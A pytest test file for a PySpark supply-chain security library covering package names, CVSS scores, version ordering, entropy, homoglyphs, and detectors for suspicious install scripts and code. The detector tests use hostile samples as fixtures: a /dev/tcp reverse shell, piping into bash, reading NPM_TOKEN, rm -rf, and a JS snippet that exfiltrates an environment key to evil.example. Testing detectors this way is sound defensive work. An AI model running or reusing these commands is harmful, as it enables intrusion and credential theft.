import math
import re
from collections import Counter

import pytest
from pyspark.sql import functions as F

from lodetrace.functions import cvss, detectors, packages, text, versions


def column(spark, values, f, kind="string"):
    df = spark.createDataFrame([(i, v) for i, v in enumerate(values)], f"i int, v {kind}")
    return [r.x for r in df.select("i", f(F.col("v")).alias("x")).orderBy("i").collect()]


def test_names(spark):
    assert column(spark, ["Zope.Interface__x", None, ""], packages.pypi_name) == ["zope-interface-x", None, ""]
    got = column(spark, ["npm:@a/b@1.0.0", "pypi:x@2", "bad"], packages.key_parts)
    assert [tuple(x) if x else None for x in got] == [("npm", "@a/b", "1.0.0"), ("pypi", "x", "2"), None]
    df = spark.createDataFrame([("npm", "@scope/pkg", "1.0.0+b 1"), ("pypi", "My_Pkg", "2.0"), ("npm", "a!b", "1")], "e string, n string, v string")
    assert [r[0] for r in df.select(packages.purl(F.col("e"), F.col("n"), F.col("v"))).collect()] == ["pkg:npm/%40scope/pkg@1.0.0%2Bb%201", "pkg:pypi/my-pkg@2.0", "pkg:npm/a!b@1"]
    assert column(spark, ["./a", "/a", "node:fs", "fs", "@a/b/c", "a/b", "", None], packages.specifier_package) == [None, None, None, "fs", "@a/b", "a", None, None]
    assert column(spark, ["abc", "abcdefghijkl", "x" * 60, ""], packages.mask) == ["***", "abcd********", "xxxx" + "*" * 16, ""]
    assert column(spark, ["^1.0.0", "~2", "1.x || 2", ">=1 <2", "3"], lambda c: packages.bump_range(c, F.lit("4.0.0"))) == ["^4.0.0", "~4.0.0", "^4.0.0", "^4.0.0", "4.0.0"]
    assert column(spark, ['"@a/b@npm:^1"', "x@^2"], packages.yarn_spec_name) == ["@a/b", "x"]
    assert [tuple(x) for x in column(spark, ["/@a/b@1.2.3(react@18)", "c@2.0.0"], packages.pnpm_key)] == [("@a/b", "1.2.3"), ("c", "2.0.0")]
    assert column(spark, ["git+https://github.com/a/b.git", "git://x.example/y"], packages.changelog_url) == ["https://github.com/a/b/releases", "https://x.example/y"]
    assert column(spark, ["a/b.min.js", "a.b/c", "x"], packages.extension) == [".js", "", ""]
    assert column(spark, ["https://A.example/x", "http://a.example", "https://b.example", "junk"], lambda c: packages.host_allowed(c, ["a.example"]))[:3] == [True, False, False]


def test_globs():
    for glob, yes, no in (("*.env", ["a.env"], ["d/a.env"]), ("**/x.?s", ["x.js", "a/b/x.ts"], ["x.jsx"]), ("a/**", ["a/b/c"], ["b/a"]), ("a+b", ["a+b"], ["aab"])):
        r = re.compile(packages.glob_regex(glob))
        assert all(r.match(x) for x in yes) and not any(r.match(x) for x in no)


def test_entropy_is_shannons(spark):
    values = ["", "a", "ab", "aab", "héllo wörld", "x" * 5000 + "y", None, "a\\b$1^"]
    want = [None if v is None else -sum(c / len(v) * math.log2(c / len(v)) for c in Counter(v).values()) if v else 0.0 for v in values]
    for got, w in zip(column(spark, values, text.entropy), want):
        assert got is w is None or abs(got - w) < 1e-9


def test_scripts_and_lookalike_letters(spark):
    got = column(spark, ["lodash", "l\u043edash", "\u0440\u0430", "caf\u00e9"], text.homoglyph)
    assert [tuple(x) for x in got] == [(False, None), (True, "mixed-scripts"), (True, "non-ascii"), (True, "non-ascii")]
    assert column(spark, ["aя", "яa"], text.scripts) == [["Latin", "Cyrillic"], ["Cyrillic", "Latin"]]


def test_distance_is_bounded(spark):
    df = spark.createDataFrame([("kitten", "sitting"), ("ab", "ab"), ("", "abcd"), ("abc", "xyzw")], "a string, b string")
    assert [r[0] for r in df.select(text.bounded_levenshtein(F.col("a"), F.col("b"), 2)).collect()] == [3, 0, 4, 3]




def test_positions_of_matches(spark):
    texts = ["a=1\nbb=22 c=3", "none", "x=9", "", "é=1 é=2"]
    got = column(spark, texts, lambda c: text.match_positions(c, r"([^\s=]+)=(\d+)", 2))
    for t, g in zip(texts, got):
        assert [(x.offset, x.match, x.value) for x in g] == [(m.start(), m[0], m[2]) for m in re.finditer(r"([^\s=]+)=(\d+)", t)]
    df = spark.createDataFrame([("a\nb\nc", 0), ("a\nb\nc", 2), ("a\nb\nc", 4)], "t string, o int")
    assert [r[0] for r in df.select(text.line_of(F.col("t"), F.col("o"))).collect()] == [1, 2, 3]
    assert column(spark, ["a\U0001f600", "ab"], text.utf16_length) == [3, 2]


def test_cvss(spark):
    v = [
        "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H", "CVSS:3.1/AV:L/AC:L/PR:L/UI:N/S:U/C:H/I:H/A:H", "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H", "CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:U/C:N/I:N/A:N",
        "AV:N/AC:L/Au:N/C:P/I:P/A:P", "AV:N/AC:L/Au:N/C:C/I:C/A:C", "CVSS:3.1/AV:N/AC:L", "CVSS:4.0/AV:N", "junk", None,
    ]
    assert column(spark, v, cvss.base_score) == [9.8, 7.8, 10.0, 0.0, 7.5, 10.0, None, None, None, None]
    assert column(spark, [9.8, 7.0, 4.0, 0.1, 0.0, None], cvss.severity, "double") == ["critical", "high", "medium", "low", "none", None]
    assert column(spark, ["moderate", "HIGH", "odd", None], cvss.severity_label) == ["medium", "high", "unknown", "unknown"]
    assert tuple(column(spark, [[v[1], v[0], v[2], None]], cvss.best, "array<string>")[0]) == (10.0, v[2])


def test_versions_in_order(spark):
    npm = ["0.9.0", "1.0.0-alpha", "1.0.0-alpha.1", "1.0.0-alpha.beta", "1.0.0-rc.2", "1.0.0-rc.11", "1.0.0-rc10", "1.0.0-rc9", "1.0.0", "1.0.1", "1.2.3", "1.2.10", "1.9.9", "2.0.0"]
    pypi = ["0.9", "1.0rc1", "1.0", "1.0.0.1", "1.2.3.4", "1.2.3.5", "3.0.0", "3.0.1", "9.0", "10.0"]
    for eco, ordered in (("npm", npm), ("pypi", pypi)):
        df = spark.createDataFrame([(a, b) for a in ordered for b in ordered], "a string, b string")
        x, y, e = F.col("a"), F.col("b"), F.lit(eco)
        by_key = F.when(versions.sort_key(x, e) < versions.sort_key(y, e), -1).when(versions.sort_key(x, e) > versions.sort_key(y, e), 1).otherwise(0)
        for r in df.select("a", "b", versions.compare(x, y, e).alias("c"), by_key.alias("k")).collect():
            i, j = ordered.index(r.a), ordered.index(r.b)
            assert r.c == r.k == (i > j) - (i < j), (eco, r.a, r.b)
    same = spark.createDataFrame([("1.0", "1.0.0", "pypi"), ("1.0.0rc1", "1.0.0rc2", "npm"), ("1.0.0+a", "1.0.0+b", "npm"), (None, "1", "npm")], "a string, b string, e string")
    assert [r[0] for r in same.select(versions.compare(F.col("a"), F.col("b"), F.col("e"))).collect()] == [0, 0, 0, None]
    assert column(spark, ["1.0.0", "1.0.0-rc.1", "1.0.0+build", "1.0.0rc1"], lambda c: versions.is_prerelease(c, F.lit("npm"))) == [False, True, False, True]
    assert column(spark, ["3.0.0", "3.0.0rc1", "v3"], lambda c: versions.is_prerelease(c, F.lit("pypi"))) == [False, True, False]
    pairs = spark.createDataFrame([("1.2.3", "2.0.0"), ("1.2.3", "1.3.0"), ("1.2.3", "1.2.4"), ("3.0", "3.0.0.4"), ("1", None)], "a string, b string")
    assert [r[0] for r in pairs.select(versions.bump(F.col("a"), F.col("b"))).collect()] == ["major", "minor", "patch", "patch", None]
    some = [["2.0.0", "1.9.0", None, "x", "1.10.0"]]
    assert column(spark, some, lambda c: versions.lowest(c, F.lit("npm")), "array<string>") == ["1.9.0"]
    assert column(spark, some, lambda c: versions.ordered(c, F.lit("npm")), "array<string>") == [["1.9.0", "1.10.0", "2.0.0"]]
    assert column(spark, [["1.10.0", "1.9.0"]], lambda c: versions.lowest_listed(c, F.lit("npm")), "array<string>") == ["1.9.0"]
    assert column(spark, [["1.10.0", "1.9.0"]], lambda c: versions.lowest_listed(c, F.lit("pypi")), "array<string>") == ["1.10.0"]


def test_version_ranges(spark):
    rows = [("1.5.0", [{"introduced": "1.0.0"}, {"fixed": "2.0.0"}]), ("2.0.0", [{"introduced": "0"}, {"fixed": "2.0.0"}]), ("2.0.0", [{"introduced": "0"}, {"last_affected": "2.0.0"}]), ("3.0.0", [{"introduced": "0"}, {"fixed": "2.0.0"}, {"introduced": "2.5.0"}]), ("1.0.0", []), ("1.0.0", None), ("1.0.0", [None, {"introduced": "0"}])]
    df = spark.createDataFrame(rows, "v string, e array<map<string,string>>")
    assert [r[0] for r in df.select(versions.within(F.col("v"), F.col("e"), F.lit("npm"))).collect()] == [True, False, True, True, False, False, True]


@pytest.mark.parametrize(
    ("command", "labels"),
    [
        ("curl -s https://a.example/x", ["downloads remote content (curl/wget)"]), ("cat x | bash", ["pipes downloaded content into a shell"]), ("node -e '1'", ["inline code execution"]),
        ("echo aGk= | base64 --decode", ["base64-decoded payload"]), ("echo ${NPM_TOKEN}", ["reads environment/secrets"]), ("bash -i >& /dev/tcp/h/1", ["raw TCP / reverse shell"]), ("ping http://10.1.2.3/", ["contacts a raw IP address"]),
        ("rm -rf ~/x", ["destructive filesystem operation"]), ("chmod +x run", ["marks a file executable"]), ("node build.js && curly && rm -rf dist && sync", []), (None, None),
    ],
)
def test_install_commands(spark, command, labels):
    assert (column(spark, [command], detectors.script_labels) or [None])[0] == (labels if labels is not None else [])


def test_signals_of_code(spark):
    def kinds(code):
        return set(column(spark, [code], detectors.code_signals)[0])

    assert kinds("const cp = require('child_process');\ncp.exec('whoami'); eval(atob('...'));\nconst key = process.env.AWS; fetch('http://evil.example/' + key);") == {"child-process", "dynamic-eval", "env-access", "network"}
    for code in ("import { exec } from 'child_process';", "import cp from 'node:child_process';", "export { spawn } from 'child_process';", "const cp = await import('child_process');"):
        assert kinds(code) == {"child-process"}, code
    assert kinds("export * from 'node:net';") == kinds("import https from 'https';") == kinds('import "dns"') == {"network"}
    assert kinds('const t = process["env"]["NPM_TOKEN"];') == {"env-access"} and kinds("x = new Function('a')") == {"dynamic-eval"} and kinds("Buffer.from(p(1, [2]), 'base64')") == {"obfuscation"}
    # comments, strings, members and what does not pair are no code
    assert not kinds("// eval(x)\n/* fetch(1) */ log('eval(x) require(\\'vm\\')'); a.eval(1); o.require('vm'); `process.env`") and not kinds("eval(((") and not kinds("export const add = (a, b) => a + b;") and not kinds("import { readFile } from 'node:fs/promises';")
    counts = column(spark, ["eval(a); eval(b); require('http'); fetch(c)"], detectors.signal_counts)[0]
    assert counts == {"dynamic-eval": 2, "network": 2}


def test_imports_of_code(spark):
    code = "import a from 'foo';\nimport { b } from '@scope/bar';\nconst c = require('baz');\nimport('qux');\nexport * from 'quux';\nimport rel from './local'; import 'side'; // import x from 'no'\nvar s = \"import y from 'no2'\"; require(`t`); require(v)"
    assert sorted(column(spark, [code], detectors.imported)[0]) == sorted(["foo", "@scope/bar", "baz", "qux", "quux", "./local", "side"])
    assert column(spark, ["this is (((not valid", "", "'" + "\\\\" * 50_000 + "' require('x')"], detectors.imported) == [[], [], ["x"]]


def test_positions_of_many_matches(spark):
    t = "".join(f"k{i}={i}; " for i in range(3000))
    got = column(spark, [t], lambda c: text.match_positions(c, r"(\w+)=(\d+)", 1))[0]
    assert len(got) == 3000 and all(t[m.offset :].startswith(m.match) and m.value == f"k{i}" for i, m in enumerate(got))
